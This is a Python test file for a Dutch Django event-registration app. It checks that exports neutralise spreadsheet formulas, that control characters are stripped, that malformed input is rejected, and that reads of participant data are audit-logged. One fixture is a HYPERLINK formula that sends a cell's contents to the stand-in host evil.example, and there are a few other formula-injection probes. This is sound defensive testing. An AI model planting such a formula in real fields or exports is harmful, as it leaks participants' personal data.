"""#11 F5–F8 for Connect: what a registrant or organiser types can neither run in a spreadsheet, nor break an
export, nor crash a page; reads of participant data leave a trace."""

import io

import pytest
from auditlog.models import LogEntry
from openpyxl import load_workbook

from meent.connect.models import Evaluation, Event, Registration
from meent.connect.tests.factories import EventFactory, PastEventFactory, SessionFactory
from meent.core.roles import Role

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&C2,"Klik")'
BIG = "99999999999999999999"
GRADES = {"overall": 8, "content": 8, "speakers": 8, "organisation": 8}


@pytest.fixture
def organiser(client, make_account, login):
    login(make_account(Role.CONNECT))
    return client


def _sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def test_a_formula_as_name_stays_text_in_the_participant_exports(client, make_account, login):
    event = EventFactory()
    response = client.post(f"/evenementen/{event.pk}/aanmelden/", {"name": HYPERLINK, "email": "evil@voorbeeld.nl"})
    assert response.status_code == 302
    assert Registration.objects.get(event=event).name == HYPERLINK  # stored as typed; neutralised on the way out
    login(make_account(Role.CONNECT))
    csv_text = client.get(f"/evenementen/{event.pk}/deelnemers/?formaat=csv").content.decode("utf-8-sig")
    assert csv_text.splitlines()[1].startswith('"\'=HYPERLINK(""http://evil.example/')
    cell = _sheet(client.get(f"/evenementen/{event.pk}/deelnemers/?formaat=xlsx"))["A2"]
    assert cell.data_type == "s" and cell.value == HYPERLINK and cell.quotePrefix


def test_formulas_in_evaluation_comments_stay_text(organiser):
    event = PastEventFactory()
    for n, comment in enumerate(["+31 6 1234", "@SUM(A1)", "-2+3", "\tTAB", "Goed"]):
        registration = Registration.objects.create(event=event, name=f"P{n}", email=f"p{n}@v.nl", status="aanwezig")
        Evaluation.objects.create(registration=registration, **GRADES, comment=comment)
    csv_lines = organiser.get(f"/evenementen/{event.pk}/evaluaties/?formaat=csv").content.decode("utf-8-sig")
    comments = sorted(line.split(";")[4].strip('"') for line in csv_lines.splitlines()[1:])
    assert comments == ["'\tTAB", "'+31 6 1234", "'-2+3", "'@SUM(A1)", "Goed"]
    sheet = _sheet(organiser.get(f"/evenementen/{event.pk}/evaluaties/?formaat=xlsx"))
    cells = [row[4] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in cells} == {"+31 6 1234", "@SUM(A1)", "-2+3", "\tTAB", "Goed"}
    assert all(c.data_type == "s" for c in cells)


def test_control_characters_are_dropped_at_input(client):
    event = EventFactory()
    client.post(f"/evenementen/{event.pk}/aanmelden/", {"name": "Anna\x01 de\x00 Boer", "email": "anna@v.nl"})
    body = {"naam": "Bert\x1b[31m", "email": "bert@v.nl", "organisatie": "Ge\x7fmeente"}
    response = client.post(f"/api/v1/evenementen/{event.pk}/aanmeldingen", body, content_type="application/json")
    assert response.status_code == 202
    names = dict(Registration.objects.values_list("email", "name"))
    assert names == {"anna@v.nl": "Anna de Boer", "bert@v.nl": "Bert[31m"}
    assert Registration.objects.get(email="bert@v.nl").organisation_name == "Gemeente"


def test_a_textarea_keeps_its_line_breaks_and_tabs(client):
    event = PastEventFactory()
    registration = Registration.objects.create(event=event, name="P", email="p@v.nl", status="aanwezig")
    client.post(f"/aanmelding/{registration.token}/evaluatie/", {**GRADES, "comment": "Een\r\nTwee\tdrie\x02"})
    assert Evaluation.objects.get().comment == "Een\r\nTwee\tdrie"


def test_an_export_survives_control_characters_already_stored(organiser):
    event = PastEventFactory()
    registration = Registration.objects.create(event=event, name="A\x01B", email="ab@v.nl", status="aanwezig")
    Evaluation.objects.create(registration=registration, **GRADES, comment="x\x0by")
    assert _sheet(organiser.get(f"/evenementen/{event.pk}/deelnemers/?formaat=xlsx"))["A2"].value == "AB"
    assert _sheet(organiser.get(f"/evenementen/{event.pk}/evaluaties/?formaat=xlsx"))["E2"].value == "xy"


def test_malformed_values_in_connect_forms_are_field_errors(organiser):
    event = EventFactory()
    base = {"title": "T", "kind": "congres", "format": "fysiek", "venue": "V", "capacity": 10}
    year_one = {"starts_at": "0001-01-01T00:00", "ends_at": "0001-01-01T01:00"}
    cases = [
        ("/evenementen/nieuw/", {**base, **year_one}, "starts_at"),
        ("/evenementen/nieuw/", {**base, "starts_at": "2030-01-01T10:00", "ends_at": "2030-01-01T12:00",
                                 "commissioners": [BIG]}, "commissioners"),
        (f"/evenementen/{event.pk}/sessies/nieuw/", {"title": "S", **year_one}, "starts_at"),
        (f"/evenementen/{event.pk}/verplaatsen/", {**year_one, "reason": "r"}, "starts_at"),
        ("/trainees/nieuw/", {"first_name": "a", "last_name": "b", "email": "a" * 250 + "@v.nl",
                              "new_cohort": "c", "start_date": "2026-01-01"}, "email"),
    ]  # fmt: skip
    for url, data, field in cases:
        response = organiser.post(url, data)
        assert response.status_code == 200, url
        assert field in response.context["form"].errors, (url, response.context["form"].errors)


def test_malformed_ids_are_not_found_or_refused(client, organiser):
    event = EventFactory()
    SessionFactory(event=event)
    registration = Registration.objects.create(event=event, name="x", email="x@v.nl")
    response = client.post(f"/evenementen/{event.pk}/aanmelden/", {"name": "a", "email": "a@v.nl", "sessions": [BIG]})
    assert "sessions" in response.context["form"].errors
    assert client.post(f"/aanmelding/{registration.token}/sessies/{BIG}/afmelden/").status_code == 404
    response = organiser.post(f"/evenementen/{event.pk}/presentielijst/", {"registration": "²"}, follow=True)
    assert "Kies een deelnemer uit de lijst." in response.text


def test_deep_json_and_lone_surrogates_are_a_400_problem(client):
    event = EventFactory()
    url = f"/api/v1/evenementen/{event.pk}/aanmeldingen"
    for body in ("[" * 5000 + "]" * 5000, '{"a":' * 30 + "1" + "}" * 30, '{"naam": "a\\ud800b", "email": "q@v.nl"}'):
        response = client.post(url, body, content_type="application/json")
        assert response.status_code == 400 and response["Content-Type"] == "application/problem+json"
    assert not Registration.objects.exists()


def test_reading_participant_lists_and_evaluations_is_audited(organiser, make_account):
    event = EventFactory()
    pages = [
        (f"/evenementen/{event.pk}/deelnemers/", "deelnemerslijst"),
        (f"/evenementen/{event.pk}/deelnemers/?formaat=csv", "deelnemerslijst (csv)"),
        (f"/evenementen/{event.pk}/presentielijst/", "presentielijst"),
        (f"/evenementen/{event.pk}/evaluaties/", "evaluaties"),
        (f"/evenementen/{event.pk}/evaluaties/?formaat=xlsx", "evaluaties (xlsx)"),
        (f"/api/v1/evenementen/{event.pk}/aanmeldingen", "deelnemerslijst (API)"),
        (f"/api/v1/evenementen/{event.pk}/evaluaties", "evaluaties (API)"),
    ]
    for url, what in pages:
        assert organiser.get(url).status_code == 200, url
        entry = LogEntry.objects.filter(action=LogEntry.Action.ACCESS).latest("pk")
        assert entry.object_pk == str(event.pk) and entry.additional_data == {"gelezen": what}, url
        assert entry.actor is not None


def test_a_double_submitted_event_form_creates_one_event(organiser):
    form = organiser.get("/evenementen/nieuw/").context["form"]
    key = form["submission"].value()
    data = {"title": "Dubbel", "kind": "congres", "format": "fysiek", "venue": "V", "capacity": 10,
            "starts_at": "2030-01-01T10:00", "ends_at": "2030-01-01T12:00", "submission": key}  # fmt: skip
    first, second = organiser.post("/evenementen/nieuw/", data), organiser.post("/evenementen/nieuw/", data)
    event = Event.objects.get(title="Dubbel")
    assert first["Location"] == second["Location"] == f"/evenementen/{event.pk}/"
    assert organiser.post("/evenementen/nieuw/", {**data, "submission": ""}).status_code == 302  # a new form
    assert Event.objects.filter(title="Dubbel").count() == 2


def test_registration_answers_the_same_whether_or_not_the_address_is_registered(
    client, mailoutbox, django_capture_on_commit_callbacks
):
    event = EventFactory()
    url = f"/evenementen/{event.pk}/aanmelden/"
    with django_capture_on_commit_callbacks(execute=True):
        first = client.post(url, {"name": "Anna", "email": "anna@voorbeeld.nl"}, follow=True)
    with django_capture_on_commit_callbacks(execute=True):
        again = client.post(url, {"name": "Iemand anders", "email": "ANNA@voorbeeld.nl"}, follow=True)
    assert first.redirect_chain == again.redirect_chain == [(f"/evenementen/{event.pk}/", 302)]
    message = [str(m) for m in first.context["messages"]]
    assert message == [str(m) for m in again.context["messages"]] and "mail gestuurd" in message[0]
    registration = Registration.objects.get(event=event)
    assert registration.name == "Anna"
    reminder = mailoutbox[-1]
    assert reminder.to == ["anna@voorbeeld.nl"] and "U bent al aangemeld" in reminder.subject
    assert f"/aanmelding/{registration.token}/" in reminder.body and "Beste Anna," in reminder.body
